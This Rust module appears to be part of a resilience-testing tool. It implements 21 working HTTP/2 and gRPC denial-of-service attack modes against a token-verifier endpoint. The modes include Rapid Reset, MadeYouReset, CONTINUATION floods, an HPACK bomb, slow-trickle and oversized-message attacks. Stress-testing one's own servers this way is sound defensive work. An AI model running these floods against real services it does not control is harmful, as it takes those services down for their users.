//! The ways to attack: what each sends. Reads nothing and judges nothing.

use std::time::Duration;

use tokio::{
    io::{AsyncRead, AsyncWrite},
    time::sleep,
};

use super::{
    Gone, Writer,
    frames::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
        WINDOW_UPDATE, bomb, call, frame, head, preface,
    },
};

/// How to attack.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum Mode {
    /// Calls that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Calls that the server must reset, by an empty window update (CVE-2025-8671).
    MadeYouReset,
    /// The same, by one that overflows the window.
    MadeYouResetOverflow,
    /// A header block that never ends (CVE-2024-27316 and its like).
    Continuation,
    /// The same, and nothing in it.
    EmptyContinuation,
    /// A header block that is 4,000 times larger when decoded.
    HpackBomb,
    /// CVE-2019-9512.
    Ping,
    /// CVE-2019-9515.
    Settings,
    /// Data without data (CVE-2019-9518).
    EmptyData,
    /// Priorities of calls that do not exist.
    Priority,
    /// Calls whose answers it gives no room.
    ZeroWindow,
    /// Calls, and no byte is read from the connection.
    NeverReading,
    /// [`OPENED`] calls, none of which is finished.
    OpenStreams,
    /// Nothing.
    Silent,
    /// The preface, and no frame.
    PrefaceOnly,
    /// A header block, byte by byte.
    SlowHeaders,
    /// A message, byte by byte.
    SlowBody,
    /// As many long messages at once as there is room for, none of which is finished.
    LargeBodies,
    /// A message that is said to be 4 GiB long.
    GiantPrefix,
    /// A message that is said to be compressed, when no compression was agreed on.
    CompressedFlag,
    /// A message that ends before its length.
    Truncated,
}

impl Mode {
    /// All of them.
    pub const ALL: [Self; 21] = [
        Self::RapidReset,
        Self::MadeYouReset,
        Self::MadeYouResetOverflow,
        Self::Continuation,
        Self::EmptyContinuation,
        Self::HpackBomb,
        Self::Ping,
        Self::Settings,
        Self::EmptyData,
        Self::Priority,
        Self::ZeroWindow,
        Self::NeverReading,
        Self::OpenStreams,
        Self::Silent,
        Self::PrefaceOnly,
        Self::SlowHeaders,
        Self::SlowBody,
        Self::LargeBodies,
        Self::GiantPrefix,
        Self::CompressedFlag,
        Self::Truncated,
    ];

    pub(super) const fn reads(self) -> bool {
        !matches!(self, Self::NeverReading)
    }

    pub(super) async fn run<S: AsyncRead + AsyncWrite>(self, to: &mut Writer<S>) -> Result<(), Gone> {
        let settings: &[_] = if self == Self::ZeroWindow { &[(INITIAL_WINDOW_SIZE, 0)] } else { &[] };
        let begin = preface(settings);
        if self == Self::PrefaceOnly {
            to.send(begin.get(..24).unwrap_or_default()).await?;
        } else if self != Self::Silent {
            to.send(&begin).await?;
        }
        match self {
            Self::Silent | Self::PrefaceOnly => {}
            Self::RapidReset => {
                let cancel = 8_u32.to_be_bytes();
                streams(to, |id| [open(id, VERIFY, 0), frame(RST_STREAM, 0, id, &cancel)].concat()).await?;
            }
            Self::MadeYouReset => {
                streams(to, |id| [open(id, VERIFY, 0), window(id, 0)].concat()).await?;
            }
            Self::MadeYouResetOverflow => {
                streams(to, |id| [open(id, VERIFY, 0), window(id, i32::MAX.unsigned_abs())].concat()).await?;
            }
            Self::Continuation => {
                // A header that no table keeps, again and again.
                let junk = [&[0, 1, b'x', 0x7f, 0xa1, 0x1e][..], &[b'y'; 4_000]].concat().repeat(4);
                to.send(&frame(HEADERS, 0, 1, &call(VERIFY))).await?;
                to.flood(&frame(CONTINUATION, 0, 1, &junk)).await?;
            }
            Self::EmptyContinuation => {
                to.send(&frame(HEADERS, 0, 1, &call(VERIFY))).await?;
                to.flood(&frame(CONTINUATION, 0, 1, b"").repeat(100)).await?;
            }
            Self::HpackBomb => {
                streams(to, |id| frame(HEADERS, END_HEADERS | END_STREAM, id, &bomb())).await?;
            }
            Self::Ping => to.flood(&frame(PING, 0, 0, &[7; 8]).repeat(100)).await?,
            Self::Settings => to.flood(&frame(SETTINGS, 0, 0, b"").repeat(100)).await?,
            Self::EmptyData => {
                to.send(&open(1, VERIFY, 0)).await?;
                to.flood(&frame(DATA, 0, 1, b"").repeat(100)).await?;
            }
            Self::Priority => {
                let weighs = [0, 0, 0, 0, 16];
                streams(to, |id| frame(PRIORITY, 0, id, &weighs).repeat(100)).await?;
            }
            Self::ZeroWindow => {
                for id in ids().take(OPENED) {
                    to.send(&[open(id, VERIFY, 0), frame(DATA, END_STREAM, id, &[0; 5])].concat()).await?;
                }
            }
            Self::NeverReading => {
                streams(to, |id| [open(id, VERIFY, 0), frame(DATA, END_STREAM, id, &[0; 5])].concat())
                    .await?;
            }
            Self::OpenStreams => {
                for id in ids().take(OPENED) {
                    to.send(&open(id, VERIFY, 0)).await?;
                }
            }
            Self::SlowHeaders => {
                to.send(&head(HEADERS, END_HEADERS, 1, 16_000)).await?;
                trickle(to, &[0x83]).await?;
            }
            Self::SlowBody => {
                to.send(&open(1, VERIFY, 0)).await?;
                to.send(&frame(DATA, 0, 1, &[0, 0, 0, 4, 0])).await?;
                trickle(to, &frame(DATA, 0, 1, &[7])).await?;
            }
            Self::LargeBodies => {
                let mut bytes = 0;
                for id in ids().take(250) {
                    to.send(&open(id, VERIFY, 0)).await?;
                    // Just below the longest that is taken, and as much of it as one call has room for.
                    to.send(&frame(DATA, 0, id, &[0, 0, 7, 0xff, 0])).await?;
                    bytes += 5;
                    for _ in 0..15 {
                        bytes += 16_384;
                        to.room(bytes).await;
                        to.send(&frame(DATA, 0, id, &[7; 16_384])).await?;
                    }
                }
            }
            Self::GiantPrefix => messages(to, &[0, 255, 255, 255, 255, 1, 2, 3]).await?,
            Self::CompressedFlag => messages(to, &[1, 0, 0, 0, 3, 1, 2, 3]).await?,
            Self::Truncated => messages(to, &[0, 0, 0, 0, 100, 1, 2, 3]).await?,
        }
        to.hold().await;
        Ok(())
    }
}

/// Some more than a client may have open at once.
pub const OPENED: usize = 300;

const VERIFY: &str = "/ipms.token.v1.VerifierService/VerifyToken";
const INITIAL_WINDOW_SIZE: u16 = 4;

/// The numbers that a client may give to calls.
fn ids() -> impl Iterator<Item = u32> {
    (1..1 << 31).step_by(2)
}

fn open(id: u32, path: &str, flags: u8) -> Vec<u8> {
    frame(HEADERS, END_HEADERS | flags, id, &call(path))
}

fn window(id: u32, by: u32) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, id, &by.to_be_bytes())
}

/// The same for one call after the other, as fast as it goes.
async fn streams<S: AsyncRead + AsyncWrite>(
    to: &mut Writer<S>,
    each: impl Fn(u32) -> Vec<u8>,
) -> Result<(), Gone> {
    let mut ids = ids().peekable();
    while ids.peek().is_some() && tokio::time::Instant::now() < to.until {
        let some: Vec<u8> = ids.by_ref().take(20).flat_map(&each).collect();
        to.send(&some).await?;
    }
    Ok(())
}

/// A piece every 200 ms.
async fn trickle<S: AsyncRead + AsyncWrite>(to: &mut Writer<S>, piece: &[u8]) -> Result<(), Gone> {
    while tokio::time::Instant::now() < to.until {
        to.send(piece).await?;
        sleep(Duration::from_millis(200)).await;
    }
    Ok(())
}

/// Whole calls whose one message is this, a hundred a second.
async fn messages<S: AsyncRead + AsyncWrite>(to: &mut Writer<S>, message: &[u8]) -> Result<(), Gone> {
    for id in ids() {
        if tokio::time::Instant::now() >= to.until {
            break;
        }
        to.send(&[open(id, VERIFY, 0), frame(DATA, END_STREAM, id, message)].concat()).await?;
        sleep(Duration::from_millis(10)).await;
    }
    Ok(())
}
